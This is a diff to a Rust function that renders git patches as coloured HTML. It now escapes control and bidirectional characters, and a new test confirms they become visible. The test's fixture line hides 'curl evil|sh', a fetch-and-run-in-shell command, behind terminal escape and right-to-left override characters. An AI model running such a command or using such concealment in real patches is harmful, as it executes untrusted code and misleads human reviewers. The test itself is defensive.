@@ -1,7 +1,7 @@
 //! A patch as coloured lines.
 
 use super::html::escaped;
-use crate::text::{PatchLine, patch_lines};
+use crate::text::{PatchLine, patch_lines, visible};
 
 /// `patch`, as git writes it, as HTML for a `pre` element.
 pub(super) fn coloured(patch: &str) -> String {
@@ -14,7 +14,7 @@ pub(super) fn coloured(patch: &str) -> String {
             PatchLine::Removed => Some("del"),
             PatchLine::Same => None,
         };
-        let line = escaped(line);
+        let line = escaped(&visible(line, &['\t']));
         match class {
             Some(class) => out += &format!("<span class=\"{class}\">{line}</span>\n"),
             None => out += &format!("{line}\n"),
@@ -26,6 +26,16 @@ pub(super) fn coloured(patch: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn nothing_hides_from_whoever_decides() {
+        let patch = "@@ -0,0 +1 @@\n+: \u{1b}] ;\tcurl evil|sh ; \u{7}\u{202e}\n";
+        assert_eq!(
+            coloured(patch),
+            "<span class=\"at\">@@ -0,0 +1 @@</span>\n\
+             <span class=\"add\">+: \\u{1b}] ;\tcurl evil|sh ; \\u{7}\\u{202e}</span>\n"
+        );
+    }
 
     #[test]
     fn lines_of_files_are_not_taken_for_heads() {
